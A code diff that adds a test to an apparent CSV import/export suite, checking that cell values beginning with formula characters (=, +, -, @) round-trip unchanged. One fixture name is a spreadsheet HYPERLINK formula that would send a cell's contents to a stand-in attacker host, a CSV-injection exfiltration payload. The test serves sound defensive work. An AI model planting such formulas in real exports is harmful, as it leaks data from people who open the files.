@@ -182,6 +182,30 @@ describe('importing instruments', () => {
     expect(row).toEqual({ channels: ['web', 'phone'], published: true, partner_id: fixture.world.partnerA.id });
   });
 
+  it('brings back a downloaded instrument whose texts a spreadsheet would run as formulas, exactly as it was', async () => {
+    const { db } = fixture.context;
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip hostile")';
+    const original = instrument(fixture.world.partnerA.id, name, {
+      description: "'=1+1 stays as typed, and so does this:\n-2+3",
+      authentication: '+SPID',
+      isFree: false,
+      costDescription: '@once a year',
+      services: [
+        { name: '@Applying', description: '' },
+        { name: "'-Renewing", description: '' },
+      ],
+    });
+    valueOf(await createInstrument(db, fixture.world.users.editorA.actor, original));
+    const download = await (await fixture.browserFor('editorA')).get(`/instruments.csv?partner=${fixture.world.partnerA.id}&q=hostile`);
+    expect(readPage(await uploadCatalogue(download.body.replace(/^\uFEFF/, ''))).status).toBe(200);
+    const rows = await db.selectFrom('instruments').select(['id', 'name', 'description', 'authentication', 'cost_description', 'channels', 'kind', 'stage']).where('name', '=', name).orderBy('id').execute();
+    expect(rows).toHaveLength(2);
+    const [first, second] = rows.map(({ id: _id, ...row }) => row);
+    expect(second).toEqual(first);
+    const services = await db.selectFrom('instrument_services').select(['instrument_id', 'name']).where('instrument_id', 'in', rows.map((row) => row.id)).orderBy('instrument_id').orderBy('position').execute();
+    expect(services.map((service) => service.name)).toEqual(['@Applying', "'-Renewing", '@Applying', "'-Renewing"]);
+  });
+
   it('lists every bad row by line and column, in words, and writes nothing', async () => {
     const { partnerA } = fixture.world;
     const csv = [
